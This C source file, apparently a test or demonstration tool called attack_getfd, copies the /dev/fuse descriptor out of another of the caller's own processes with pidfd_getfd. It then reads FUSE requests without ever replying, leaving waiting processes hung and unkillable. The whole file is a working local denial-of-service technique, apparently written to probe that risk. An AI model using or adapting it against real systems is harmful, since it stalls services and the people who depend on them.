/*
 * Takes the descriptor of /dev/fuse out of another process of one's own: attack_getfd PID. Then reads questions from it
 * and answers none: who asked cannot be killed, while the device is open. What a caller can do with the server of an
 * image of their own.
 */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/pidfd.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	int process = argc == 2 ? pidfd_open(atoi(argv[1]), 0) : -1, device = -1;
	char link[64], name[64];
	static char question[1 << 20];

	for (int i = 3; process >= 0 && i < 64; i++) {
		ssize_t length;

		snprintf(link, sizeof link, "/proc/%s/fd/%d", argv[1], i);
		length = readlink(link, name, sizeof name - 1);
		if (length <= 0)
			continue;
		name[length] = '\0';
		if (strcmp(name, "/dev/fuse") == 0)
			device = pidfd_getfd(process, i, 0);
	}
	printf("held %d\n", device >= 0);
	fflush(stdout);
	/* The one who was asked last may have taken a question with it, half read. */
	while (read(device, question, sizeof question) > 0 || errno == EAGAIN || errno == EINTR ||
	       errno == ENOENT)
		poll(&(struct pollfd){.fd = device, .events = POLLIN}, 1, 1000);
	perror("read");
	sleep(60);
	return 0;
}
